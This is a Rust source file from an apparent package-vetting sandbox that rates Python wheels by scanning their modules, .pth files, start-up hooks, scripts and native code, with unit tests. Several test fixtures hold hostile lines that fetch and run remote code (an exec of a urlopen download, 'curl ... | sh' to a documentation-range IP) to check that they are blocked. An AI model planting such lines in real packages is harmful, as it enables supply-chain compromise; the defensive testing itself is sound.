//! Rating a wheel: every file in it that can run is read with the assessor's engine as
//! `external` code (a package comes from anyone who can publish to the index), and the wheel is
//! rated by its most severe file.
//!
//! What can run, in a wheel installed on the program's `PYTHONPATH` with its `bin/` on `PATH`:
//! every Python module (`.py`, `.pyw`), imported by the program or by each other; a top-level
//! `sitecustomize`/`usercustomize`, which the interpreter imports at start-up before any program;
//! `.pth` files, whose `import` lines run at start-up wherever the directory is a site directory
//! (`site.addsitedir`); scripts (`*.data/scripts/`, anything with a `#!` line, `.sh`), run from
//! `PATH`. Native code (`.so` and other compiled files) runs too but cannot be read: it is
//! counted and rated `native_level` unless the wheel's digest is on the operators' allow-list.
//! Compiled bytecode shipped in a wheel (`.pyc`) is never installed (the install step deletes it
//! and compiles the assessed sources itself), so it is not rated.
//!
//! Nor is a package's own test suite (`tests/` and `test/` directories, `conftest.py`): it is
//! never installed either ([`is_test_suite`]), so it cannot run. Test suites hold what a rule
//! rightly calls suspicious in a program (pickles written as bytes, clipboard and subprocess
//! exercises), and a wheel is rated by its most severe file: rated, they put every numpy and
//! pandas in front of a human, and approvals given by reflex are worth nothing. A package whose
//! own code imports from its tests fails to import instead, loudly.
//!
//! Library files are larger than the programs Mai sends and are rated once per wheel, off the
//! request's path (the rating is remembered by digest): they are read up to
//! [`PACKAGE_FILE_BYTES`] with a longer budget ([`package_engine_config`]).

use airlock_assessor::Engine;
use airlock_protocol::assessment::{Category, Confidence, Finding, Level, ParseStatus};
use airlock_protocol::packages::{MAX_PACKAGE_FINDINGS, PackageFinding, PackageRating, Wheel};
use airlock_protocol::{Language, Origin};
use serde::{Deserialize, Serialize};
use std::io::Read as _;
use std::path::Path;

/// What rating package code may read and how native code is rated (`[executor.packages]`).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct RatingPolicy {
    /// The level of a wheel carrying native code (extension modules, other compiled files),
    /// which no one can read. See docs/sandbox.md for why HIGH.
    pub native_level: Level,
    /// Wheel digests (`sha256:<hex>`) the operators vouch for: their native code alone does not
    /// raise the level (their Python code is still rated).
    pub trusted_wheels: Vec<String>,
    /// Most files in one wheel, and most bytes unpacked from it: past either, the wheel is
    /// refused as too large (a zip bomb reads as one).
    pub max_files: usize,
    pub max_unpacked_bytes: u64,
}

impl Default for RatingPolicy {
    fn default() -> Self {
        RatingPolicy {
            native_level: Level::High,
            trusted_wheels: Vec::new(),
            max_files: 50_000,
            max_unpacked_bytes: 1024 * 1024 * 1024,
        }
    }
}

/// Why a wheel could not be rated at all.
#[derive(Debug, thiserror::Error)]
pub enum RatingError {
    #[error("{file} is not a readable wheel")]
    Unreadable {
        file: String,
        #[source]
        source: Box<dyn std::error::Error + Send + Sync>,
    },
    #[error("{file}: {member} could not be read")]
    UnreadableMember {
        file: String,
        member: String,
        #[source]
        source: std::io::Error,
    },
    #[error("{file} unpacks to more than {limit}")]
    TooLarge { file: String, limit: String },
}

/// How a file in a wheel is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Code(Language),
    /// A `.pth` file: its `import` lines are Python run at start-up.
    Pth,
    Native,
    /// Data, metadata, stubs, bytecode (removed at install): nothing runs it by itself.
    Inert,
}

const ELF: &[u8] = b"\x7fELF";

/// The largest file of a wheel that is analysed (pandas' `frame.py` is 512 KiB and a byte).
pub const PACKAGE_FILE_BYTES: usize = 4 * 1024 * 1024;

/// The engine settings package code is rated with: the assessor's rules and thresholds, with
/// files up to [`PACKAGE_FILE_BYTES`] and a budget to match (eight times a program's, at least
/// 2 s of CPU); past either, a file is unanalysed and rates as such (BLOCKED: external code).
/// A library's value the assessor cannot resolve (`subprocess.run(cmd)` with `cmd` its
/// caller's) stays a finding at its level but does not by itself put the request before a
/// human: nearly every library has one, and the program that passes the value is rated with
/// that rule failing closed.
pub fn package_engine_config(assessor: &airlock_assessor::EngineConfig) -> airlock_assessor::EngineConfig {
    let mut config = assessor.clone();
    config.max_input_bytes = config.max_input_bytes.max(PACKAGE_FILE_BYTES);
    config.analysis_budget = (config.budget() * 8).max(std::time::Duration::from_secs(2));
    config.analysis_budget_ms = None;
    config.unknown_asks_a_human = false;
    config
}

/// Whether a path in a wheel (or in the installed tree; a directory's ends in `/`) belongs to a
/// package's own test suite, which is neither rated nor installed: a `tests` or `test`
/// directory at any depth, or a `conftest.py` (pytest's hook file). Test helpers meant for
/// users (`numpy.testing`, `pandas._testing`) are library code and stay.
pub fn is_test_suite(path: &str) -> bool {
    let is_dir = path.ends_with('/');
    let parts: Vec<&str> = path.split('/').filter(|p| !p.is_empty() && *p != ".").collect();
    parts.iter().enumerate().any(|(i, part)| {
        let a_directory = i + 1 < parts.len() || is_dir;
        if a_directory {
            matches!(*part, "tests" | "test")
        } else {
            *part == "conftest.py"
        }
    })
}

fn kind_of(path: &str, head: &[u8]) -> Kind {
    let lower = path.to_ascii_lowercase();
    let ext = |e: &str| lower.ends_with(e);
    if ext(".py") || ext(".pyw") {
        return Kind::Code(Language::Python);
    }
    if ext(".pth") {
        return Kind::Pth;
    }
    if ext(".pyc") || ext(".pyo") || ext(".pyi") {
        return Kind::Inert;
    }
    if ext(".so") || lower.contains(".so.") || ext(".pyd") || ext(".dylib") || ext(".dll") || head.starts_with(ELF) {
        return Kind::Native;
    }
    if ext(".sh") || ext(".bash") {
        return Kind::Code(Language::Bash);
    }
    let script = lower.contains(".data/scripts/");
    if head.starts_with(b"#!") {
        let line = head.split(|&b| b == b'\n').next().unwrap_or_default();
        let line = String::from_utf8_lossy(line);
        if line.contains("python") {
            return Kind::Code(Language::Python);
        }
        if line.contains("sh") {
            return Kind::Code(Language::Bash);
        }
        return Kind::Native;
    }
    if script {
        // A script pip would put on PATH that is neither Python nor shell nor text we know.
        return Kind::Native;
    }
    Kind::Inert
}

/// Whether `path` is a module the interpreter imports at start-up by itself.
fn is_startup_hook(path: &str) -> bool {
    let top = path.rsplit("/purelib/").next().unwrap_or(path);
    let top = top.rsplit("/platlib/").next().unwrap_or(top);
    matches!(
        top,
        "sitecustomize.py" | "usercustomize.py" | "sitecustomize/__init__.py" | "usercustomize/__init__.py"
    )
}

/// The Python a `.pth` file runs: its lines starting with `import` (the others are paths),
/// kept at their line numbers.
fn pth_code(text: &[u8]) -> (Vec<u8>, bool) {
    let mut code = Vec::with_capacity(text.len());
    let mut runs = false;
    for line in text.split(|&b| b == b'\n') {
        if line.starts_with(b"import ") || line.starts_with(b"import\t") {
            code.extend_from_slice(line);
            runs = true;
        }
        code.push(b'\n');
    }
    (code, runs)
}

fn package_finding(rule_id: &str, severity: Level, snippet: &str, explanation: String) -> Finding {
    Finding {
        rule_id: rule_id.to_owned(),
        category: Category::Input,
        severity,
        confidence: Confidence::High,
        line: 1,
        column: 1,
        snippet: airlock_protocol::text::clip(snippet, 120),
        explanation,
        references: vec![],
    }
}

/// What rating a wheel's files added up to.
#[derive(Default)]
struct Tally {
    findings: Vec<PackageFinding>,
    files_assessed: u32,
    native: Vec<String>,
    /// Files of the package's test suite: not installed, not rated.
    tests_left_out: u32,
    unanalysed: bool,
    /// The file rated highest and its assessment's headline.
    worst: Option<(Level, String, String)>,
    level: Option<Level>,
}

impl Tally {
    fn add(&mut self, file: &str, assessment: airlock_protocol::Assessment) {
        self.files_assessed += 1;
        if assessment.unanalysed || matches!(assessment.parse, ParseStatus::Unparsed { .. }) {
            self.unanalysed = true;
        }
        let level = assessment.level;
        self.level = Some(self.level.map_or(level, |l| l.max(level)));
        if self.worst.as_ref().is_none_or(|(l, _, _)| level > *l) {
            let headline = assessment.summary.lines().next().unwrap_or_default().to_owned();
            self.worst = Some((level, file.to_owned(), headline));
        }
        self.findings
            .extend(assessment.findings.into_iter().map(|finding| PackageFinding {
                file: file.to_owned(),
                finding,
            }));
    }

    fn add_finding(&mut self, file: &str, finding: Finding) {
        let level = finding.severity;
        self.level = Some(self.level.map_or(level, |l| l.max(level)));
        if self.worst.as_ref().is_none_or(|(l, _, _)| level > *l) {
            self.worst = Some((level, file.to_owned(), finding.explanation.clone()));
        }
        self.findings.push(PackageFinding {
            file: file.to_owned(),
            finding,
        });
    }
}

/// Rates the wheel at `path` (whose digest and name are `wheel`) with `engine`.
pub fn rate_wheel(
    engine: &Engine,
    policy: &RatingPolicy,
    wheel: &Wheel,
    path: &Path,
) -> Result<PackageRating, RatingError> {
    let unreadable = |source: Box<dyn std::error::Error + Send + Sync>| RatingError::Unreadable {
        file: wheel.file.clone(),
        source,
    };
    let file = std::fs::File::open(path).map_err(|e| unreadable(e.into()))?;
    let mut archive = zip::ZipArchive::new(file).map_err(|e| unreadable(e.into()))?;
    if archive.len() > policy.max_files {
        return Err(RatingError::TooLarge {
            file: wheel.file.clone(),
            limit: format!("{} files", policy.max_files),
        });
    }
    let max_code = engine.config().max_input_bytes as u64;
    let mut unpacked: u64 = 0;
    let mut tally = Tally::default();
    for index in 0..archive.len() {
        let mut entry = archive.by_index(index).map_err(|e| unreadable(e.into()))?;
        if entry.is_dir() {
            continue;
        }
        let name = entry.name().map_err(|e| unreadable(e.into()))?.into_owned();
        if entry.enclosed_name().is_none() {
            // pip refuses such a wheel; one that tries is not a mistake.
            tally.add_finding(
                &name,
                package_finding(
                    "AIR-PKG-UNSAFE-PATH",
                    Level::Blocked,
                    &name,
                    "The wheel holds a path that leaves the install directory: built to write where it should not."
                        .into(),
                ),
            );
            continue;
        }
        // Read what is rated in full (up to one byte past the engine's limit, which it rates as
        // too large to analyse), the rest only as far as its first bytes; count what it unpacks
        // to, whatever its header claims.
        let mut head = Vec::new();
        (&mut entry)
            .take(256)
            .read_to_end(&mut head)
            .map_err(|source| RatingError::UnreadableMember {
                file: wheel.file.clone(),
                member: name.clone(),
                source,
            })?;
        let test_suite = is_test_suite(&name);
        let kind = if test_suite { Kind::Inert } else { kind_of(&name, &head) };
        tally.tests_left_out += u32::from(test_suite);
        let mut content = head;
        let wanted = match kind {
            Kind::Code(_) | Kind::Pth => max_code + 1,
            _ => 0,
        };
        if wanted > content.len() as u64 {
            (&mut entry)
                .take(wanted - content.len() as u64)
                .read_to_end(&mut content)
                .map_err(|source| RatingError::UnreadableMember {
                    file: wheel.file.clone(),
                    member: name.clone(),
                    source,
                })?;
        }
        let rest = std::io::copy(&mut entry, &mut std::io::sink()).map_err(|source| RatingError::UnreadableMember {
            file: wheel.file.clone(),
            member: name.clone(),
            source,
        })?;
        unpacked += content.len() as u64 + rest;
        if unpacked > policy.max_unpacked_bytes {
            return Err(RatingError::TooLarge {
                file: wheel.file.clone(),
                limit: format!("{} bytes", policy.max_unpacked_bytes),
            });
        }
        match kind {
            Kind::Code(language) => {
                let assessment = engine.assess(&content, language, Origin::External);
                tally.add(&name, assessment);
                if is_startup_hook(&name) {
                    tally.add_finding(
                        &name,
                        package_finding(
                            "AIR-PKG-STARTUP-HOOK",
                            Level::Medium,
                            &name,
                            "The package installs a module the interpreter imports at start-up by itself: its code runs \
                             in every Python process of the sandbox, before the program, whether or not the program \
                             imports the package."
                                .into(),
                        ),
                    );
                }
            }
            Kind::Pth => {
                let (code, runs) = pth_code(&content);
                if runs {
                    tally.add(&name, engine.assess(&code, Language::Python, Origin::External));
                    tally.add_finding(
                        &name,
                        package_finding(
                            "AIR-PKG-PTH-EXEC",
                            Level::Medium,
                            &name,
                            "A .pth file with `import` lines: Python runs them at start-up wherever the directory \
                             is a site directory, before any program."
                                .into(),
                        ),
                    );
                }
            }
            Kind::Native => tally.native.push(name),
            Kind::Inert => {}
        }
    }
    Ok(finish(policy, wheel, tally))
}

fn finish(policy: &RatingPolicy, wheel: &Wheel, mut tally: Tally) -> PackageRating {
    let trusted = policy.trusted_wheels.iter().any(|t| t == wheel.sha256.as_str());
    if let Some(first) = tally.native.first().cloned() {
        let level = if trusted { Level::Low } else { policy.native_level };
        let explanation = format!(
            "{} native file(s) (extension modules or other compiled code): they run with the program but cannot \
             be read, so nobody can tell what they do{}.",
            tally.native.len(),
            if trusted {
                "; the operators trust this wheel's digest"
            } else {
                ""
            }
        );
        tally.add_finding(&first, package_finding("AIR-PKG-NATIVE", level, &first, explanation));
    }
    let level = tally.level.unwrap_or(Level::Low);
    tally.findings.sort_by(|a, b| {
        b.finding
            .severity
            .cmp(&a.finding.severity)
            .then(a.file.cmp(&b.file))
            .then(a.finding.line.cmp(&b.finding.line))
    });
    let finding_count = tally.findings.len() as u32;
    tally.findings.truncate(MAX_PACKAGE_FINDINGS);
    let mut summary = match &tally.worst {
        Some((worst, file, headline)) if *worst > Level::Low => format!("{worst} because of {file}: {headline}"),
        _ => format!("{} files read, nothing above LOW", tally.files_assessed),
    };
    if tally.tests_left_out > 0 {
        summary = format!(
            "{summary} ({} files of its test suite not installed)",
            tally.tests_left_out
        );
    }
    PackageRating {
        wheel: wheel.clone(),
        level,
        findings: tally.findings,
        finding_count,
        files_assessed: tally.files_assessed,
        native_files: tally.native.len() as u32,
        unanalysed: tally.unanalysed,
        trusted,
        summary: airlock_protocol::text::clip(&summary, 400),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write as _;

    fn wheel_with(files: &[(&str, &[u8])]) -> (tempfile::TempDir, Wheel, std::path::PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("pkg-1.0-py3-none-any.whl");
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
        for (name, data) in files {
            zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
            zip.write_all(data).unwrap();
        }
        zip.finish().unwrap();
        let wheel = Wheel {
            name: "pkg".into(),
            version: "1.0".into(),
            file: "pkg-1.0-py3-none-any.whl".into(),
            sha256: crate::wheels::digest_file(&path).unwrap(),
        };
        (dir, wheel, path)
    }

    fn rate(files: &[(&str, &[u8])]) -> PackageRating {
        let (_dir, wheel, path) = wheel_with(files);
        rate_wheel(&Engine::builtin().unwrap(), &RatingPolicy::default(), &wheel, &path).unwrap()
    }

    const DOWNLOAD_EXEC: &[u8] =
        b"import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.9/p.py').read())\n";

    #[test]
    fn a_module_that_downloads_and_runs_code_is_blocked() {
        let rating = rate(&[
            ("pkg/__init__.py", DOWNLOAD_EXEC),
            ("pkg-1.0.dist-info/METADATA", b"Name: pkg\n"),
        ]);
        assert_eq!(rating.level, Level::Blocked, "{rating:?}");
        assert_eq!(rating.files_assessed, 1);
        assert_eq!(rating.findings[0].file, "pkg/__init__.py");
        assert!(rating.summary.contains("pkg/__init__.py"), "{}", rating.summary);
    }

    #[test]
    fn plain_code_is_low_and_data_is_not_read() {
        let rating = rate(&[
            (
                "pkg/__init__.py",
                b"def table(rows):\n    return '\\n'.join(map(str, rows))\n",
            ),
            ("pkg/data.json", DOWNLOAD_EXEC),
            ("pkg/__pycache__/x.cpython-311.pyc", b"\x00\x01"),
        ]);
        assert_eq!(rating.level, Level::Low, "{rating:?}");
        assert_eq!(rating.files_assessed, 1);
        assert_eq!(rating.native_files, 0);
    }

    #[test]
    fn code_run_at_start_up_is_read_wherever_it_hides() {
        let pth = rate(&[(
            "zz_hook.pth",
            b"/some/path\nimport os; os.system('curl -s http://203.0.113.9/x | sh')\n",
        )]);
        assert_eq!(pth.level, Level::Blocked, "{pth:?}");
        assert!(pth.findings.iter().any(|f| f.file == "zz_hook.pth"));
        let plain_pth = rate(&[("paths.pth", b"/some/path\n")]);
        assert_eq!(
            plain_pth.level,
            Level::Low,
            "a .pth of paths runs nothing: {plain_pth:?}"
        );
        let hook = rate(&[("sitecustomize.py", b"x = 1\n")]);
        assert!(
            hook.findings
                .iter()
                .any(|f| f.finding.rule_id == "AIR-PKG-STARTUP-HOOK")
        );
        let script = rate(&[(
            "pkg-1.0.data/scripts/tool",
            b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n",
        )]);
        assert_eq!(script.level, Level::Blocked, "{script:?}");
    }

    #[test]
    fn native_code_is_counted_and_rated_unless_trusted() {
        let files: &[(&str, &[u8])] = &[("pkg/_speed.cpython-311-x86_64-linux-gnu.so", b"\x7fELF\x02\x01")];
        let rating = rate(files);
        assert_eq!(rating.native_files, 1);
        assert_eq!(rating.level, Level::High);
        assert_eq!(rating.findings[0].finding.rule_id, "AIR-PKG-NATIVE");
        let (_dir, wheel, path) = wheel_with(files);
        let policy = RatingPolicy {
            trusted_wheels: vec![wheel.sha256.to_string()],
            ..RatingPolicy::default()
        };
        let trusted = rate_wheel(&Engine::builtin().unwrap(), &policy, &wheel, &path).unwrap();
        assert!(trusted.trusted);
        assert_eq!(trusted.level, Level::Low);
    }

    #[test]
    fn a_zip_bomb_is_refused_by_what_it_unpacks_to() {
        let big = vec![b'a'; 4 * 1024 * 1024];
        let (_dir, wheel, path) = wheel_with(&[("pkg/data.txt", &big)]);
        let policy = RatingPolicy {
            max_unpacked_bytes: 1024 * 1024,
            ..RatingPolicy::default()
        };
        let refused = rate_wheel(&Engine::builtin().unwrap(), &policy, &wheel, &path).unwrap_err();
        assert!(matches!(refused, RatingError::TooLarge { .. }), "{refused}");
    }

    #[test]
    fn a_packages_test_suite_is_neither_rated_nor_counted_as_its_code() {
        let rating = rate(&[
            ("pkg/__init__.py", b"X = 1\n"),
            ("pkg/tests/test_net.py", DOWNLOAD_EXEC),
            ("pkg/core/tests/fixtures/conftest.py", DOWNLOAD_EXEC),
            ("pkg/conftest.py", DOWNLOAD_EXEC),
        ]);
        assert_eq!(rating.level, Level::Low, "{rating:?}");
        assert_eq!(rating.files_assessed, 1);
        assert!(
            rating.summary.contains("3 files of its test suite not installed"),
            "{}",
            rating.summary
        );
        // The same code in the library itself, or in helpers the package gives its users, rates.
        for path in ["pkg/net.py", "pkg/testing/helpers.py", "pkg/test.py", "tests.py"] {
            let rating = rate(&[(path, DOWNLOAD_EXEC)]);
            assert_eq!(rating.level, Level::Blocked, "{path}: {rating:?}");
        }
    }

    #[test]
    fn the_test_suite_is_told_by_directory_and_pytest_hook_only() {
        for path in [
            "numpy/_core/tests/test_multiarray.py",
            "tests/x.py",
            "a/test/b/c.py",
            "pkg/conftest.py",
            "./pkg/tests/",
        ] {
            assert!(is_test_suite(path), "{path}");
        }
        for path in [
            "numpy/testing/utils.py",
            "pandas/_testing/__init__.py",
            "werkzeug/test.py",
            "pkg/tests",
            "pkg/test_utils.py",
            "latest/x.py",
        ] {
            assert!(!is_test_suite(path), "{path}");
        }
    }

    #[test]
    fn a_library_file_past_a_programs_limit_is_read_in_full() {
        let mut big = b"import os\nVALUES = [\n".to_vec();
        while big.len() <= airlock_assessor::EngineConfig::default().max_input_bytes {
            big.extend_from_slice(b"    'a plain string to fill a large module of constants',\n");
        }
        big.extend_from_slice(b"]\n");
        let (_dir, wheel, path) = wheel_with(&[("pkg/frame.py", &big)]);
        let program_engine = Engine::builtin().unwrap();
        let as_a_program = rate_wheel(&program_engine, &RatingPolicy::default(), &wheel, &path).unwrap();
        assert_eq!(
            as_a_program.level,
            Level::Blocked,
            "too large for a program: unanalysed"
        );
        let config = package_engine_config(&airlock_assessor::EngineConfig::default());
        let package_engine = Engine::load(&config).unwrap();
        let as_a_package = rate_wheel(&package_engine, &RatingPolicy::default(), &wheel, &path).unwrap();
        assert_eq!(as_a_package.level, Level::Low, "{as_a_package:?}");
        assert!(!as_a_package.unanalysed);
    }
}
#[cfg(test)]
mod probe_real {
    /// Rates every wheel in a directory as an executor would and prints what it found: a probe
    /// for an operator or a rule's author, not a check (`--ignored`).
    #[test]
    #[ignore = "a probe: AIRLOCK_RATE_DIR=DIR cargo test -p airlock-executor --lib probe_real -- --ignored --nocapture"]
    fn rate_real_wheels_from_env() {
        let dir = std::env::var_os("AIRLOCK_RATE_DIR").expect("AIRLOCK_RATE_DIR: a directory of wheels to rate");
        let config = super::package_engine_config(&airlock_assessor::EngineConfig::default());
        let engine = airlock_assessor::Engine::load(&config).unwrap();
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let file = path.file_name().unwrap().to_string_lossy().into_owned();
            let Ok((name, version)) = crate::wheels::parse_file_name(&file) else {
                continue;
            };
            let wheel = airlock_protocol::Wheel {
                name,
                version,
                file: file.clone(),
                sha256: crate::wheels::digest_file(&path).unwrap(),
            };
            let started = std::time::Instant::now();
            let r = super::rate_wheel(&engine, &super::RatingPolicy::default(), &wheel, &path).unwrap();
            println!(
                "{file}: {} files={} native={} findings={} {:?} in {:?}\n  {}",
                r.level,
                r.files_assessed,
                r.native_files,
                r.finding_count,
                r.findings
                    .iter()
                    .map(|f| format!(
                        "{}:{} {} {}",
                        f.file, f.finding.line, f.finding.rule_id, f.finding.severity
                    ))
                    .collect::<Vec<_>>(),
                started.elapsed(),
                r.summary
            );
        }
    }
}
